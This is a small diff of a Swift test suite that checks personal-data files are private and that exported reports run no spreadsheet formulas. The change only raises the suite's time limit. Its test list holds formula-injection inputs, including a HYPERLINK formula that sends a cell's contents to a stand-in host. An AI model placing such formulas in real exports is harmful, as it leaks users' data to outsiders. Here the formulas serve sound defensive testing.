@@ -3,7 +3,7 @@ import JourneyQueue
 import Testing
 
 /// Files of personal data are private, and a report opened in a spreadsheet runs nothing (issue 10).
-@Suite(.timeLimit(.minutes(6))) struct PersonalDataFileTests {
+@Suite(.timeLimit(.minutes(12))) struct PersonalDataFileTests {
     static let formulas = [#"=HYPERLINK("http://x/?"&A1,"ok")"#, "+1+2", "@SUM(A1)", "-2+3", "plain"]
 
     func mode(_ path: String) throws -> Int {
